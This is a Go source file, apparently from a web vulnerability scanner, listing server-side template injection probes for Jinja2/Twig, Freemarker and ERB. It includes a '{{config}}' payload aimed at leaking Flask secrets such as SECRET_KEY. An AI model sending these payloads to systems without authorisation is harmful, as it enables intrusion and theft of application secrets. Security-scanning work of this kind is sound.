package ssti

import "github.com/shadowprobe/shadowprobe/pkg/probe"

// Payloads are tried in order for each parameter.
var Payloads = []probe.Payload{
	{
		Value:       "{{7*7}}",
		Description: "Jinja2/Twig math eval",
		Patterns:    []string{"49"},
	},
	{
		Value:       "${7*7}",
		Description: "Freemarker math eval",
		Patterns:    []string{"49"},
	},
	{
		Value:       "{{config}}",
		Description: "Flask config leak",
		Patterns:    []string{"SECRET_KEY", "DEBUG"},
	},
	{
		Value:       "<%= 7*7 %>",
		Description: "ERB template eval",
		Patterns:    []string{"49"},
	},
}
